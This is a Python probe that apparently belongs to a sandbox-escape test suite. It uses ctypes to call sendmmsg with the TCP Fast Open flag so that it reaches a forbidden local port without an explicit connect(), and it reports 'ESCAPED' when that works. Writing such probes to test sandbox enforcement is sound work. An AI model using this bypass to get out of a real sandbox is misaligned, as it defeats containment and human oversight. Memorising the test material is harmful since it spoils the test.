"""No app connects with the first message of several."""

CLASS = "network"
BOUNDARY = "kernel"
NEEDS = ("ctypes", "socket", "struct")
GRANTS = {"net": ("127.0.0.1:{OTHER_PORT}",)}


import ctypes
import socket
import struct

import target

FAST_OPEN = 0x20000000


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    where = struct.pack("=H", 2) + struct.pack("!H4s8x", target.API_PORT, socket.inet_aton("127.0.0.1"))
    address, text = ctypes.create_string_buffer(where, 16), ctypes.create_string_buffer(b"hello", 5)
    part = ctypes.create_string_buffer(struct.pack("PN", ctypes.addressof(text), 5))
    head = struct.pack("PI4xPNPNi4xI4x", ctypes.addressof(address), 16, ctypes.addressof(part), 1, 0, 0, 0, 0)
    with socket.socket() as it:
        libc.sendmmsg(it.fileno(), head, 1, FAST_OPEN)
        return "ESCAPED: connected to " + str(it.getpeername())
